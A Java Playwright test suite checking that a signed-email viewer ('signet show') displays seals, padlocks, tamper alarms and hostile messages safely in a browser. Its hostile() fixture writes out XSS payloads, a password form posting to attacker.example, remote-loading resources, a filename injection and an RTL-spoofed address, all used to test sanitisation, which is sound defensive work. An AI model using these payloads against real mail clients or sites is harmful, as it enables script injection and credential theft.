package org.signet.browser;

import static org.assertj.core.api.Assertions.assertThat;

import com.deque.html.axecore.playwright.AxeBuilder;
import com.microsoft.playwright.Browser;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.ColorScheme;
import java.net.URI;
import java.net.http.HttpRequest;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.signet.cli.Layers;
import org.signet.cli.Post;
import org.signet.interop.Packaged;

/** {@code signet show}: a message with its seal and its padlock in a real browser, whoever wrote it. */
class ShowTest {
    @TempDir
    private static Path folder;

    private static Post post;
    private static Browsing browsing;
    private final List<String> requests = new ArrayList<>();
    private Shown shown;

    @BeforeAll
    static void arrive() {
        browsing = Browsing.start();
        post = Post.in(folder);
        post.mail("m.eml", "ada", "bob", "Dear Bob,\n\nhere are the figures of March: 1, 2 and 3.\n\nAda\n");
        post.run("sign --in m.eml --out good.eml AS:ada");
        post.run("encrypt --in m.eml --out sealed.eml --headers shy --cert bob.pem AS:ada");
        post.run("encrypt --in m.eml --out unsigned.eml --cipher cbc --no-sign --cert bob.pem");
        post.write("tampered.eml", post.text("good.eml").replace("1, 2 and 3", "1, 2 and 9"));
        post.write("hostile.eml", hostile());
    }

    /** Whatever a browser would run, load, send or turn round. */
    private static String hostile() {
        String html = """
                <html><head><style>@import url(http://attacker.example/a.css); body { display: none }</style>
                <meta http-equiv=refresh content="0; url=http://attacker.example/"><base href=http://attacker.example/>
                <link rel=stylesheet href=http://attacker.example/b.css><title>Gone</title></head>
                <body background=http://attacker.example/c.png onload="document.title='run'">
                <img src=http://attacker.example/d.png onerror="document.title='run'"><script>document.title='run'</script>
                <svg onload="document.title='run'"></svg><iframe src=http://attacker.example/e></iframe>
                <form action=http://attacker.example/f><input name=password><button>Sign in</button></form>
                &lt;script&gt;document.title='run'&lt;/script&gt; The words of it. </pre></article><h1>Outside</h1>
                <a href="javascript:document.title='run'">here</a><video poster=http://attacker.example/g></video>
                """;
        String entity =
                "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
                        + html + "\r\n--b\r\nContent-Type: text/html; name=\"x\"\r\nContent-Disposition: attachment;"
                        + " filename=\"<img src=x onerror=alert(1)>.html\"\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n";
        return "From: \"<script>document.title='run'</script>\" <mallory@example.com>\r\n"
                + "To: =?utf-8?q?=E2=80=AEmoc=2Eelpmaxe=40ada?= <bob@example.com>\r\n"
                + "Subject: <img src=http://attacker.example/h.png> " + "long ".repeat(2_000) + "\r\n"
                + "Date: Mon, 2 Mar 2026 10:00:00 +0100\r\nMIME-Version: 1.0\r\n"
                + Layers.part("signed-data", new Layers(post).signed(Layers.latin(entity), "mallory"));
    }

    @AfterAll
    static void stop() {
        if (browsing != null) {
            browsing.close();
        }
    }

    @AfterEach
    void close() {
        if (shown != null) {
            shown.close();
        }
    }

    private Page reader(ColorScheme colours) {
        Page page = browsing.visitor(
                new Browser.NewContextOptions().setViewportSize(1200, 800).setColorScheme(colours));
        page.onRequest(request -> requests.add(request.url()));
        return page;
    }

    /** What the options name, in this process, opened by a reader. */
    private Page open(String line, Page page) {
        shown = Shown.of(post, line);
        page.navigate(shown.link());
        page.waitForURL("**/message");
        return page;
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            good.eml TRUST             | good   | none   | here are the figures
            good.eml --offline         | doubt  | none   | here are the figures
            tampered.eml TRUST         | broken | none   |
            sealed.eml TRUST AS:bob    | good   | closed | here are the figures
            sealed.eml TRUST           | hidden | shut   |
            sealed.eml TRUST AS:carol  | hidden | shut   |
            unsigned.eml TRUST AS:bob  | none   | weak   | here are the figures
            m.eml TRUST                | none   | none   | here are the figures
            hostile.eml TRUST          | doubt  | none   | The words of it.
            """)
    void everybodyCanSeeWhatItIsWorth(String line, String seal, String padlock, String text) {
        Page page = open(line, reader(ColorScheme.LIGHT));
        String name = line.replaceAll("\\.eml", "").replaceAll("[^a-z]+", "-");
        for (String language : List.of("en", "de")) {
            for (int width : new int[] {1200, 360}) {
                page.setViewportSize(width, 800);
                page.navigate(shown.url() + "/message?lang=" + language);
                Browsing.picture(page, "show-" + name + "-" + width + "-" + language);
                assertThat(page.locator("html").getAttribute("lang")).isEqualTo(language);
                assertThat(page.locator(".message-seal-" + seal).isVisible()).isTrue();
                assertThat(page.locator(".padlock-" + padlock).isVisible()).isTrue();
                if (text == null) {
                    assertThat(page.locator(".letter-text").count()).isZero();
                } else {
                    assertThat(page.locator(".letter-text").textContent()).contains(text);
                }
                assertThat(page.locator("main").textContent()).doesNotContain("{0}", "??", "show.");
                Number wide = (Number) page.evaluate("document.documentElement.scrollWidth");
                assertThat(wide.intValue()).as(language + width).isLessThanOrEqualTo(width);
            }
        }
        accessible(page);
        quiet();
    }

    private static void accessible(Page page) {
        var found = new AxeBuilder(page).analyze().getViolations();
        assertThat(found).as(found.toString()).isEmpty();
    }

    /** Nothing was loaded from elsewhere, and no page complained. */
    private void quiet() {
        assertThat(requests).isNotEmpty().allMatch(url -> url.startsWith(shown.url()) || url.startsWith("about:"));
        assertThat(browsing.complaints()).isEmpty();
    }

    @Test
    void theAlarmStandsBeforeTheTextOfAChangedMessageWhichIsOnlyForThoseWhoInsist() {
        Page page = open("tampered.eml TRUST", reader(ColorScheme.LIGHT));
        Browsing.picture(page, "message-tampered");
        assertThat(page.content()).doesNotContain("1, 2 and 9");
        double alarm = page.locator(".alarm").boundingBox().y;
        assertThat(alarm).isLessThan(page.locator(".message-seal-broken").boundingBox().y);
        page.locator(".insist button").click();
        assertThat(page.locator(".letter-text").textContent()).contains("1, 2 and 9");
        assertThat(page.locator(".alarm").boundingBox().y)
                .isLessThan(page.locator(".letter-text").boundingBox().y);
        accessible(page);
        quiet();
    }

    @Test
    void aHostileMessageIsTextAndNothingElse() {
        Page page = open("hostile.eml TRUST", reader(ColorScheme.DARK));
        assertThat(page.title()).doesNotContain("run", "Gone");
        assertThat(page.locator(
                                "main img, main script, main iframe, main input, article h1, main style, main a[href^=javascript]")
                        .count())
                .isZero();
        assertThat(page.locator("main form").count()).isEqualTo(1);
        assertThat(page.content()).doesNotContain("\u202e");
        assertThat(page.locator(".letter-text").textContent()).contains("<script>", "The words of it.");
        page.locator("summary").all().forEach(summary -> summary.click());
        String attached = page.waitForDownload(
                        () -> page.locator("a[href='/message/attachments/0']").click())
                .suggestedFilename();
        assertThat(attached).doesNotContain("<", ">").endsWith(".html");
        quiet();
    }

    /** The link works once, here, and for whoever opened it. */
    @Test
    void nobodyElseSeesIt() {
        shown = Shown.of(post, "good.eml TRUST");
        assertThat(status("/message", "")).isEqualTo(403);
        assertThat(status("/message/attachments/0", "")).isEqualTo(403);
        assertThat(status("/open/" + "0".repeat(48), "")).isBetween(400, 499);
        Page page = reader(ColorScheme.LIGHT);
        page.navigate(shown.link());
        page.waitForURL("**/message");
        String cookie = page.context().cookies().get(0).name + "="
                + page.context().cookies().get(0).value;
        assertThat(status("/message", cookie)).isEqualTo(200);
        assertThat(status("/message", cookie.replaceAll(".$", "-"))).isEqualTo(403);
        Page other = reader(ColorScheme.LIGHT);
        other.navigate(shown.link());
        assertThat(other.content()).doesNotContain("figures");
        other.navigate(shown.url() + "/message");
        assertThat(other.content()).doesNotContain("figures");
        assertThat(Shown.raw(shown.url(), "attacker.example", cookie)).startsWith("HTTP/1.1 404");
        assertThat(Shown.raw(shown.url(), "localhost", cookie)).startsWith("HTTP/1.1 200");
        // The browser's console tells of the refusals.
        browsing.complaints().clear();
    }

    private int status(String path, String cookie) {
        return Packaged.send(HttpRequest.newBuilder(URI.create(shown.url() + path))
                        .header("Cookie", cookie.isEmpty() ? "none=none" : cookie)
                        .build())
                .statusCode();
    }

    /** Two messages side by side in one browser. */
    @Test
    void twoCanBeReadAtOnce() {
        Page first = open("tampered.eml TRUST", reader(ColorScheme.LIGHT));
        try (Shown another = Shown.of(post, "good.eml TRUST")) {
            Page second = first.context().newPage();
            second.navigate(another.link());
            second.waitForURL("**/message");
            assertThat(second.locator(".letter-text").textContent()).contains("1, 2 and 3");
            first.locator(".insist button").click();
            assertThat(first.locator(".letter-text").textContent()).contains("1, 2 and 9");
        }
    }

    /** As a user starts it: the program ends when the reader is done. */
    @Test
    void theProgramEndsWithItsReader() throws Exception {
        Process process = Packaged.process(
                "show",
                "--in",
                post.file("good.eml").toString(),
                "--trust",
                post.file("root.pem").toString(),
                "--offline");
        try {
            String link = Shown.link(process.inputReader());
            Page page = reader(ColorScheme.LIGHT);
            page.navigate(link);
            page.waitForURL("**/message");
            Browsing.picture(page, "message");
            page.locator(".actions button").click();
            assertThat(page.locator("h1").textContent()).isNotBlank();
            assertThat(process.waitFor(10, TimeUnit.SECONDS)).isTrue();
            assertThat(process.exitValue()).isZero();
            assertThat(browsing.complaints()).isEmpty();
        } finally {
            process.destroyForcibly();
        }
    }
}
